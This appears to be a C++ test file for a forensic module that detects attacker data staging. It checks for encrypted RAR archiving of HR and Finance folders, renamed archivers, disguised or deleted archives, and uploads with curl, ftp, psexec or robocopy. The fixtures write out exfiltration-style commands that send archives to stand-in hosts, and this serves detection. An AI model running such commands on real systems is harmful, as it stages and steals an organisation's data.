// What tells an act of staging, as the module winrar joins it.
#include <gmock/gmock.h>

#include <chrono>

#include "tests/modules/packing_cases.h"

namespace hozen {
namespace modules {
extern const ModuleSpec powershell_history, run_mru, winrar;
}  // namespace modules
namespace {

using fake::at;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::SizeIs;

constexpr std::uint64_t kMiB = 1U << 20U;

ModuleRun judge_winrar(std::vector<Fact> facts) {
  return judge_facts(modules::winrar, std::move(facts));
}

TEST(WinRarStaging, ARenamedArchiverIsKnownByItsArgumentsAlone) {
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\T\\u.exe", "u.exe a -hpS3cr#t C:\\Users\\Public\\a.dat C:\\HR")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  const Finding& finding = run.context->findings[0];
  EXPECT_GE(severity_of(finding), Severity::high);
  EXPECT_THAT(story_of(finding), HasSubstr("is called like none"));
  EXPECT_THAT(all_of(finding), Not(HasSubstr("S3cr#t")));
  EXPECT_THAT(finding.not_checked, Contains(HasSubstr("The archive itself: it was not found")));
}

TEST(WinRarStaging, OneActThatSeveralLogsTellIsOneFinding) {
  const std::string line = "rar a -hpX -v10m C:\\PerfLogs\\1.rar \\\\srv\\c$\\HR";
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\Windows\\System32\\cmd.exe", "cmd /c \"" + line + "\""),
       process_fact(at(1), "C:\\T\\rar.exe", line),
       hand_made(FactKind::script, at(2), "", "script-1", {{"ScriptBlockText", line}}),
       process_fact(at(600), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\2.rar C:\\Finance")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  const std::string story = story_of(run.context->findings[0]);
  EXPECT_THAT(run.context->findings[0].title, HasSubstr("2 archives"));
  EXPECT_EQ(story.find("to pack \\\\srv\\c$\\HR"), story.rfind("to pack \\\\srv\\c$\\HR"));
}

TEST(WinRarStaging, ActsFarApartAreTwoFindings) {
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
       process_fact(at(90'000), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\2.rar C:\\HR")});
  EXPECT_THAT(run.context->findings, SizeIs(2));
}

TEST(WinRarStaging, VolumesInTheJournalAlone) {
  std::vector<Fact> facts;
  for (int i = 1; i <= 3; ++i) {
    const std::string path = "C:\\$Recycle.Bin\\d.part" + std::to_string(i) + ".rar";
    facts.push_back(usn_fact("created", at(i), path));
    facts.push_back(usn_fact("deleted", at(500 + i), path, {{"created", at(i).iso8601()}}));
  }
  const auto run = judge_winrar(std::move(facts));
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_GE(severity_of(run.context->findings[0]), Severity::high);
  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("nothing of it is there any more"));
}

TEST(WinRarStaging, AnArchiveThatGotTheNameOfAPicture) {
  const auto run = judge_winrar({usn_fact("created", at(0), "C:\\Users\\eve\\Pictures\\a.rar"),
                                 usn_fact("renamed", at(60), "C:\\Users\\eve\\Pictures\\a.jpg",
                                          {{"from", "C:\\Users\\eve\\Pictures\\a.rar"}}),
                                 archive_fact(at(0), "C:\\Users\\eve\\Pictures\\a.jpg", 5 * kMiB,
                                              {{"extension", "lies"}, {"encrypted", "headers"}})});
  ASSERT_FALSE(run.context->findings.empty());
  EXPECT_GE(highest(run), Severity::medium);
  EXPECT_THAT(story_of(run.context->findings[0]),
              HasSubstr("under the extension of something else"));
}

TEST(WinRarStaging, ACommandWithoutAFolderIsThatOfTheArchiveOfItsName) {
  const auto run = judge_winrar({process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX 1.rar C:\\HR"),
                                 usn_fact("created", at(3), "C:\\PerfLogs\\1.rar"),
                                 process_fact(at(9), "C:\\T\\rar.exe", "rar a -hpX 2.rar C:\\HR",
                                              {{"CurrentDirectory", "C:\\PerfLogs\\"}})});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("The archive was in PerfLogs"));
}

TEST(WinRarStaging, WhatSysmonSawOfFilesIsReadToo) {
  std::vector<Fact> facts;
  for (int i = 1; i <= 2; ++i) {
    Fact made =
        hand_made(FactKind::file, at(i), "C:\\PerfLogs\\1.part" + std::to_string(i) + ".rar",
                  "sysmon-" + std::to_string(i), {{"Image", "C:\\T\\svch.exe"}});
    made.event_id = 11;
    facts.push_back(std::move(made));
  }
  Fact gone = hand_made(FactKind::file, at(90), "C:\\PerfLogs\\1.part1.rar", "sysmon-3", {});
  gone.event_id = 23;
  facts.push_back(std::move(gone));
  facts.push_back(hand_made(FactKind::presence, {}, "C:\\T\\svch.exe", "amcache-1",
                            {{"OriginalFileName", "Rar.exe"}}));
  const auto run = judge_winrar(std::move(facts));
  ASSERT_THAT(run.context->findings, SizeIs(1));
  const std::string story = story_of(run.context->findings[0]);
  EXPECT_THAT(story, HasSubstr("was written by C:\\T\\svch.exe at " + at(1).iso8601()));
  EXPECT_THAT(story, HasSubstr("C:\\T\\svch.exe is RAR by its version resource"));
  EXPECT_THAT(story, HasSubstr("1.part1.rar, made at " + at(1).iso8601() + ", deleted at " +
                               at(90).iso8601()));
}

TEST(WinRarStaging, BatchesOfFtpByTheSameUserMayHaveSentIt) {
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
       process_fact(at(600), "C:\\Windows\\System32\\ftp.exe", "ftp -s:C:\\T\\s.txt 192.0.2.1"),
       process_fact(at(200'000), "C:\\Windows\\System32\\curl.exe",
                    "curl -T C:\\PerfLogs\\1.rar https://late.example")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(run.context->findings[0]),
              HasSubstr("A command was given that may send it away with ftp"));
  EXPECT_THAT(story_of(run.context->findings[0]), Not(HasSubstr("late.example")));
}

TEST(WinRarStaging, WhatUsersTypedIsReadToo) {
  fake::FakeWindows windows;
  windows.user("eve");
  windows.value("HKU\\eve\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU", "a",
                fake::sz("C:\\T\\z.exe a -hpS3cr#t C:\\PerfLogs\\1.rar C:\\HR\\1"));
  windows.file(
      "C:\\Users\\eve\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\"
      "ConsoleHost_history.txt",
      "dir\n.\\q.exe a -hpS3cr#t -v5m C:\\ProgramData\\2.rar D:\\Plans\n");
  const auto run =
      run_and_judge({&modules::run_mru, &modules::powershell_history, &modules::winrar}, windows);
  std::string all;
  for (const Finding& finding : run.context->findings) all += all_of(finding);
  EXPECT_THAT(all, HasSubstr("(the Run dialog)"));
  EXPECT_THAT(all, HasSubstr("(PowerShell's history)"));
  EXPECT_THAT(all, HasSubstr("eve gave the command to pack D:\\Plans"));
  EXPECT_THAT(all, Not(HasSubstr("S3cr#t")));
}

TEST(WinRarStaging, UploadsOfOtherArchivesOfTheSameNameAreNone) {
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
       process_fact(at(60), "C:\\Windows\\System32\\curl.exe",
                    "curl -T D:\\Other\\1.rar https://other.example"),
       process_fact(at(90), "C:\\Windows\\System32\\curl.exe", "curl -T 1.rar https://h.example")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(run.context->findings[0]), Not(HasSubstr("other.example")));
  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("https://h.example"));
}

TEST(WinRarStaging, RenamedArchiversWithoutAnActAreToldByThemselves) {
  const auto presence = [](const std::string& path) {
    return hand_made(FactKind::presence, {}, path, "amcache-1",
                     {{"source", "amcache"}, {"OriginalFileName", "rar.exe"}});
  };
  const auto run = judge_winrar({presence("C:\\Windows\\Temp\\svch.exe"),
                                 presence("C:\\Program Files\\Product\\pack.exe"),
                                 presence("C:\\Tools\\rar_x64.exe")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_EQ(run.context->findings[0].rule, "winrar.renamed_program");
  EXPECT_EQ(run.context->findings[0].subject, "C:\\Windows\\Temp\\svch.exe");
  EXPECT_EQ(severity_of(run.context->findings[0]), Severity::medium);
}

TEST(WinRarStaging, OtherArchivesOfTheSameNameAreOtherActs) {
  constexpr std::int64_t kDay = 86'400;
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\Program Files\\7-Zip\\7z.exe", "7z a D:\\Backup\\db.7z D:\\db",
                    {{"User", "PC\\svc_backup"}}),
       process_fact(at(40 * kDay), "C:\\T\\x.exe", "x.exe a -hpX -v9m E:\\Backup\\db.rar E:\\db"),
       process_fact(at(80 * kDay), "C:\\T\\x.exe", "x.exe a -hpX -v9m C:\\PerfLogs\\1.rar E:\\db",
                    {{"User", "PC\\mallory"}}),
       process_fact(at(82 * kDay), "C:\\T\\x.exe",
                    "x.exe a -hpX -v9m C:\\PerfLogs\\1.rar E:\\db")});
  ASSERT_THAT(run.context->findings, SizeIs(3)) << fake::summary_of(run.context->findings);
  for (const Finding& finding : run.context->findings)
    EXPECT_THAT(story_of(finding), Not(HasSubstr("svc_backup")));
}

TEST(WinRarStaging, WhatTellsNoDriveIsOfTheArchiveOfItsFolder) {
  const auto run =
      judge_winrar({process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
                    hand_made(FactKind::archive_trace, at(3), "\\VOLUME{01d5-aa}\\PERFLOGS\\1.RAR",
                              "p-1", {{"source", "prefetch"}, {"program", "RAR.EXE"}})});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("RAR.EXE read or wrote"));
}

TEST(WinRarStaging, WhatAnotherHostPacksIsToldWithIt) {
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\T\\psexec.exe",
                    "psexec \\\\fs01 -s C:\\T\\rar.exe a -hpX C:\\PerfLogs\\1.rar C:\\HR")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  const Finding& finding = run.context->findings[0];
  EXPECT_EQ(finding.subject, "\\\\fs01\\C$\\PerfLogs\\1.rar");
  EXPECT_THAT(finding.title, HasSubstr("on the host fs01"));
  EXPECT_THAT(story_of(finding), HasSubstr("on the host fs01"));
  EXPECT_THAT(story_of(finding), Not(HasSubstr("was started from")));
}

TEST(WinRarStaging, CopiesToASharesHostAreNoSendingAway) {
  const auto run =
      judge_winrar({process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
                    process_fact(at(9), "C:\\Windows\\System32\\cmd.exe",
                                 "cmd /c copy C:\\PerfLogs\\1.rar \\\\nas\\b"),
                    process_fact(at(10), "C:\\Windows\\System32\\cmd.exe",
                                 "cmd /c copy C:\\PerfLogs\\1.rar \\\\localhost\\own$")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("copies it to another host"));
  EXPECT_THAT(story_of(run.context->findings[0]), Not(HasSubstr("own$")));
  EXPECT_THAT(run.context->findings[0].title, Not(HasSubstr("send it away")));
}

TEST(WinRarStaging, RobocopyOfAllArchivesOfAFolderIsTold) {
  const auto run =
      judge_winrar({process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
                    process_fact(at(9), "C:\\Windows\\System32\\robocopy.exe",
                                 "robocopy C:\\PerfLogs \\\\10.9.9.9\\c$\\temp *.rar")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("copies it to another host"));
}

TEST(WinRarStaging, PasswordsOfZipAreNotTold) {
  for (const char* line : {R"(cmd /c "zip -r -eP S3cr#t C:\PerfLogs\1.zip C:\HR")",
                           R"(zip -r -P "a S3cr#t" C:\PerfLogs\1.zip C:\HR)"}) {
    const auto run = judge_winrar({process_fact(at(0), "C:\\T\\zip.exe", line)});
    ASSERT_THAT(run.context->findings, SizeIs(1)) << line;
    EXPECT_THAT(all_of(run.context->findings[0]), Not(HasSubstr("S3cr#t")));
  }
}

TEST(WinRarStaging, ThousandsOfArchivesAndTransfersAreSoonHeldAgainstEachOther) {
  std::vector<Fact> facts;
  for (int i = 0; i < 3000; ++i) {
    const std::string path = "C:\\PerfLogs\\a" + std::to_string(i) + ".7z";
    facts.push_back(archive_fact(at(0), path, kMiB));
    facts.push_back(usn_fact("created", at(0), path));
  }
  std::string line = "curl";
  for (int i = 0; i < 300; ++i) line += " -T C:\\D\\" + std::to_string(i) + ".zip";
  for (int i = 0; i < 300; ++i)
    facts.push_back(process_fact(at(60 + i), "C:\\Windows\\System32\\curl.exe",
                                 line + " https://h" + std::to_string(i) + ".example/"));
  const auto begin = std::chrono::steady_clock::now();
  const auto run = judge_winrar(std::move(facts));
  EXPECT_LT(std::chrono::steady_clock::now() - begin, std::chrono::seconds{20});
  ASSERT_THAT(run.context->notes, Not(IsEmpty()));
}

TEST(WinRarStaging, ARoutineInAHiddenPlaceIsNoBackup) {
  std::vector<Fact> facts;
  facts.reserve(4);
  for (int day = 0; day < 4; ++day)
    facts.push_back(
        process_fact(at(day * kDaySeconds), "C:\\T\\rar.exe",
                     "rar a -hpX C:\\PerfLogs\\" + std::to_string(day) + ".rar C:\\HR"));
  EXPECT_GE(highest(judge_winrar(std::move(facts))), Severity::high);
}

}  // namespace
}  // namespace hozen
